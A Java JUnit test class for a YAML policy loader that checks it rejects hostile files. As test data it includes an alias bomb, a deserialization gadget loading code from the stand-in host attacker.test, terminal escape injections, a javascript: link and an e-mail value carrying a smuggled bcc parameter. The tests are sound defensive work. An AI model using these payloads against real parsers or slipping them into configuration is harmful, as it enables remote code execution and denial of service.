package dev.confide.policy;

import static dev.confide.policy.CustomPolicy.at;
import static dev.confide.policy.CustomPolicy.with;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A policy file may come from anywhere an operator copied it from; reading it must never cost more than reading it. */
class PolicyHostileInputTest {
  @TempDir Path tmp;

  private static List<String> errors(String yaml) {
    return catchThrowableOfType(PolicyException.class, () -> PolicyLoader.parse(yaml, CustomPolicy.SOURCE)).errors();
  }

  @Test
  void anAliasBombIsRefusedAtItsFirstAlias() {
    String bomb = """
        a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
        b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
        c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
        d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
        e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
        f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
        g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
        """;

    assertThat(errors(bomb)).containsExactly("custom.yaml:1:4: anchors (&a) are not allowed in a policy file");
  }

  @Test
  void aliasesAndMergeKeysAreRefused() {
    String alias = with("privacyEmail: privacy@acme.test", "privacyEmail: *mail");
    String merge = with("  name: Acme Chat", "  <<: {name: Acme Chat}");

    assertThat(errors(alias)).containsExactly(at(alias, "*mail", "*mail") + "aliases (*mail) are not allowed in a policy file");
    assertThat(errors(merge)).containsExactly(
        at(merge, "<<", "<<") + "company has no key '<<'; expected one of: name, legalName, service, website",
        at(merge, "<<", "<<") + "company.name is missing");
  }

  @Test
  void explicitTagsAreRefusedSoNothingIsEverConstructed() {
    String gadget = with("version: \"7\"",
        "version: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.test/\"]]]]");
    String local = with("version: \"7\"", "version: !custom 7");

    assertThat(errors(gadget)).containsExactly(
        at(gadget, "version", "!!javax") + "tags (tag:yaml.org,2002:javax.script.ScriptEngineManager) are not allowed in a policy file");
    assertThat(errors(local)).containsExactly(at(local, "version", "!custom") + "tags (!custom) are not allowed in a policy file");
  }

  @Test
  void anOversizedFileIsRefusedBeforeParsing() throws Exception {
    String big = CustomPolicy.YAML + "# " + "x".repeat(PolicyYaml.MAX_CHARS) + "\n";
    Path file = tmp.resolve("big.yaml");
    Files.writeString(file, "#" + "x".repeat(PolicyYaml.MAX_CHARS * 4) + "\n");

    assertThat(errors(big)).containsExactly("custom.yaml: the file is larger than 256 KiB");
    assertThat(catchThrowableOfType(PolicyException.class, () -> PolicyLoader.load(file)).errors())
        .containsExactly(file + ": the file is larger than 256 KiB");
  }

  @Test
  void deepNestingIsRefused() {
    String deep = "version: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n";

    assertThat(errors(deep)).singleElement().asString().startsWith("custom.yaml:").contains("not valid YAML: Nesting Depth exceeded");
  }

  @Test
  void malformedYamlIsReportedWithItsPosition() {
    String broken = with("  name: Acme Chat", "  name: [Acme Chat");

    assertThat(errors(broken)).singleElement().asString().startsWith("custom.yaml:5:").contains("not valid YAML");
  }

  @Test
  void somethingOtherThanOneMappingIsRefused() {
    assertThat(errors("")).containsExactly("custom.yaml: the file is empty");
    assertThat(errors("# only a comment\n")).containsExactly("custom.yaml: the file is empty");
    assertThat(errors("- a\n- b\n")).containsExactly("custom.yaml:1:1: the file must be a mapping of keys to values");
    assertThat(errors(CustomPolicy.YAML + "---\nversion: \"8\"\n")).singleElement().asString()
        .contains("not valid YAML: expected a single document in the stream, but found another document");
  }

  @Test
  void valuesThatYamlWouldReinterpretAreNotAccepted() {
    String huge = with("usageDays: 400", "usageDays: 99999999999999999999");
    String sexagesimal = with("accessLogDays: 200", "accessLogDays: 3:20");
    String octal = with("regulatorHours: 48", "regulatorHours: 0o60");
    String yes = with("dataCollection: false", "dataCollection: off");

    assertThat(errors(huge)).containsExactly(at(huge, "usageDays", "9") + "retention.usageDays must be a positive number of days (at most 36500)");
    assertThat(errors(sexagesimal)).containsExactly(at(sexagesimal, "accessLogDays", "3:20")
        + "retention.accessLogDays must be a positive number of days (at most 36500)");
    assertThat(errors(octal)).containsExactly(at(octal, "regulatorHours", "0o60")
        + "breach.regulatorHours must be a whole number of hours from 1 to 720");
    assertThat(errors(yes)).containsExactly(at(yes, "dataCollection", "off") + "defaults.dataCollection must be true or false");
  }

  @Test
  void controlCharactersAndOverlongTextAreRefused() {
    String escape = with("name: Acme Chat", "name: \"Acme\\u001b[31m Chat\"");
    String longText = with("description: Your conversations.", "description: " + "a".repeat(4001));

    String key = with("minimumAge: 16", "minimumAge: 16\n\"\\e[2J" + "k".repeat(100) + "\": 1");

    assertThat(errors(key)).singleElement().asString().contains("the file has no key '?[2Jkkk").contains("kkk...'; expected")
        .doesNotContain("\u001b");
    assertThat(errors(escape)).containsExactly(at(escape, "name: \"Acme", "\"") + "company.name must not contain control characters");
    assertThat(errors(longText)).containsExactly(at(longText, "description: aaa", "aaa")
        + "categories[1].description is longer than 4000 characters");
  }

  @Test
  void linksAreOnlyMailAndHttpsAddresses() {
    String script = with("  service: a chat service for testing", "  service: a chat service for testing\n  website: javascript:alert(1)");
    String mail = with("privacyEmail: privacy@acme.test", "privacyEmail: \"a@b.test?bcc=everyone@x.test\"");

    assertThat(errors(script)).containsExactly(at(script, "website", "javascript") + "company.website must be an https:// address");
    assertThat(errors(mail)).containsExactly(at(mail, "privacyEmail", "\"") + "contacts.privacyEmail must be an e-mail address");
  }
}
